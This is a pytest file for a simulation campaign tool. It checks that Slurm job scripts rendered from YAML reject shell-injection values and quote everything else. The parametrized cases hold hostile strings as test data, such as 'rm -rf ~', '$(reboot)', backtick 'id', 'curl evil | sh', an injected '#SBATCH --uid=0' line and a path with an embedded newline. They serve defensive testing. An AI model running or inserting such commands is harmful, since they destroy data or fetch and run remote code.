"""Batch scripts from YAML: values with shell metacharacters are refused, everything else is quoted."""

from __future__ import annotations

import shlex
import subprocess
import textwrap
from pathlib import Path
from types import SimpleNamespace

import pytest

from twin.config.loader import load_campaign
from twin.core.errors import ConfigError
from workflows.executors import Launcher, slurm_worker_init
from workflows.jobscripts import TEMPLATES, render

BASE = textwrap.dedent("""\
    schema_version: 1
    campaign: {name: slurmy, seed: 1}
    models:
      l96: {type: lorenz96, n: 8, dt: 0.05}
    timeline: {start: 0.0, end: 1.0, units: s}
    assimilation:
      method: etkf
      N: 4
      schedule: {every: 1, cycles: 2}
      observations: [{type: all_points, component: 0, error_std: 1.0}]
    resources:
      type: slurm
      partition: PARTITION
      account: proj-1
      walltime: "00:20:00"
      modules: [gcc/12.2, openmpi/4.1]
      worker_init: ["source /opt/site/env.sh"]
    """)


def _load(tmp_path, text):
    path = tmp_path / "c.yaml"
    path.write_text(text)
    return load_campaign(path)


@pytest.mark.parametrize("key, value", [
    ("partition: PARTITION", "partition: 'debug; rm -rf ~'"),
    ("partition: PARTITION", "partition: 'debug$(reboot)'"),
    ("account: proj-1", "account: '`id`'"),
    ("walltime: \"00:20:00\"", "walltime: '00:20:00 && halt'"),
    ("modules: [gcc/12.2, openmpi/4.1]", "modules: ['gcc|sh']"),
    ("worker_init: [\"source /opt/site/env.sh\"]", "worker_init: ['source env.sh; curl evil | sh']"),
])
def test_shell_metacharacters_in_yaml_are_refused(tmp_path, key, value):
    with pytest.raises(ConfigError) as err:
        _load(tmp_path, BASE.replace("PARTITION", "debug").replace(key.replace("PARTITION", "debug"), value))
    text = str(err.value)
    assert "resources." in text
    assert any(w in text for w in ("not allowed", "should match", "pattern", "hours:minutes:seconds")), text


@pytest.mark.parametrize("kind", TEMPLATES)
def test_rendered_scripts_quote_every_value(tmp_path, kind):
    loaded = _load(tmp_path, BASE.replace("PARTITION", "debug"))
    run_dir = tmp_path / "run dir with 'quotes' and $HOME"
    script = render(kind, loaded.config.resources, job_name="twin-slurmy", campaign_file=loaded.path,
                    run_dir=run_dir, workdir=tmp_path, log_dir=tmp_path / "logs",
                    experiment_names=["seed-1", "seed-2"])
    text = script.text
    assert "#SBATCH --partition=debug" in text and "#SBATCH --account=proj-1" in text
    assert "#SBATCH --time=00:20:00" in text and "--qos" not in text
    assert "module load gcc/12.2" in text and "source /opt/site/env.sh" in text
    joined = text.replace("\\\n", " ")
    exec_line = next(ln for ln in joined.splitlines() if ln.startswith("exec "))
    words = shlex.split(exec_line)
    assert str(run_dir) in words  # one word, exactly the path: quoted, not expanded
    assert str(loaded.path) in words
    if kind == "experiment_array":
        assert "#SBATCH --array=0-1" in text and "experiments=(seed-1 seed-2)" in text
    syntax = subprocess.run(["bash", "-n"], input=text, text=True, capture_output=True)
    assert syntax.returncode == 0, syntax.stderr
    assert all(not a.startswith("--output=") or "logs" in a for a in script.sbatch_args)


def test_render_checks_again_what_the_schema_checked(tmp_path):
    """Defence in depth: objects that did not come through the schema are checked as well."""
    res = SimpleNamespace(partition="debug\n#SBATCH --uid=0", account=None, qos=None, walltime="00:10:00",
                          modules=[], worker_init=[], ranks=1, nodes=1, launcher="srun")
    with pytest.raises(ConfigError, match="resources.partition"):
        render("single_run", res, job_name="x", campaign_file=Path("c.yaml"), run_dir=tmp_path, workdir=tmp_path,
               log_dir=tmp_path)
    res.partition, res.walltime = "debug", "10 minutes"
    with pytest.raises(ConfigError, match="walltime"):
        render("single_run", res, job_name="x", campaign_file=Path("c.yaml"), run_dir=tmp_path, workdir=tmp_path,
               log_dir=tmp_path)
    res.walltime = "00:10:00"
    with pytest.raises(ConfigError, match="control characters"):
        render("single_run", res, job_name="x", campaign_file=Path("c.yaml"), run_dir=Path("runs/a\nrm -rf ~"),
               workdir=tmp_path, log_dir=tmp_path)


def test_task_commands_and_worker_init_are_quoted(tmp_path):
    cmd = Launcher(kind="mpiexec", python="/opt/py thon/bin/python").command(2, ["forecast", "/r/it's", "--cycle", 3])
    tail = cmd.split("; done; ", 1)[1]
    words = shlex.split(tail)
    assert words[words.index("mpiexec"):] == ["mpiexec", "-n", "2", "/opt/py thon/bin/python", "-P", "-m",
                                              "twin.campaign.task", "forecast", "/r/it's", "--cycle", "3"]
    with pytest.raises(ValueError):
        Launcher(kind="none").command(2, [])
    res = _load(tmp_path, BASE.replace("PARTITION", "debug")).config.resources
    init = slurm_worker_init(res, python="/opt/py thon/bin/python")
    assert "module load gcc/12.2" in init and "export PATH='/opt/py thon/bin':\"$PATH\"" in init


def test_launcher_parsl_mpi_is_a_slurm_launcher(tmp_path):
    """``launcher: parsl-mpi`` (Parsl's MPI mode) is accepted for Slurm; on local resources, where Parsl's MPI mode
    finds no nodes, it is refused in one line naming the key, that it is Slurm's, and the launchers to use instead; a block too small
    for ``resources.ranks`` on whole nodes is refused naming the keys to raise."""
    slurm = BASE.replace("PARTITION", "debug").replace("account: proj-1", "account: proj-1\n  launcher: parsl-mpi")
    assert _load(tmp_path, slurm).config.resources.launcher == "parsl-mpi"
    local = BASE.split("resources:")[0] + "resources: {type: local, workers: 2, launcher: parsl-mpi}\n"
    with pytest.raises(ConfigError) as err:
        _load(tmp_path, local)
    text = str(err.value)
    assert len(text.strip().splitlines()) == 1, text
    assert "resources.launcher: parsl-mpi (Parsl's MPI mode, whole nodes per task from srun) runs on Slurm resources " \
           "(resources.type: slurm); on this machine use auto (the default), mpiexec or worker" in text
    small = slurm.replace("launcher: parsl-mpi", "launcher: parsl-mpi\n  ranks: 8\n  ranks_per_node: 4")
    with pytest.raises(ConfigError) as err:
        _load(tmp_path, small)
    text = str(err.value)
    assert len(text.strip().splitlines()) == 1, text
    assert "resources.launcher: parsl-mpi gives a task whole nodes: resources.ranks (8) needs 2 nodes of " \
           "ranks_per_node (4), a block has nodes (1); raise resources.nodes or ranks_per_node" in text
    assert _load(tmp_path, small.replace("ranks: 8", "ranks: 8\n  nodes: 2")).config.resources.nodes == 2


@pytest.mark.parametrize("launcher, launch", [("srun", "srun --ntasks=$SLURM_NTASKS"),
                                              ("parsl-mpi", "srun --ntasks=$SLURM_NTASKS"),
                                              ("mpiexec", "mpiexec -n $SLURM_NTASKS")])
def test_an_online_job_script_starts_its_ranks_with_the_launchers_program(tmp_path, launcher, launch):
    """``twin submit --mode single/array`` runs the campaign online in the job: its ranks start under srun for
    ``srun`` and ``parsl-mpi`` (Parsl's srun prefix exists only inside a Parsl worker), mpiexec for ``mpiexec``."""
    text = BASE.replace("PARTITION", "debug").replace("account: proj-1", f"account: proj-1\n  launcher: {launcher}")
    loaded = _load(tmp_path, text)
    script = render("single_run", loaded.config.resources, job_name="twin-launch", campaign_file=loaded.path,
                    run_dir=tmp_path / "run", workdir=tmp_path, log_dir=tmp_path / "logs")
    assert launch in script.text and ("mpiexec" in script.text) == (launcher == "mpiexec")
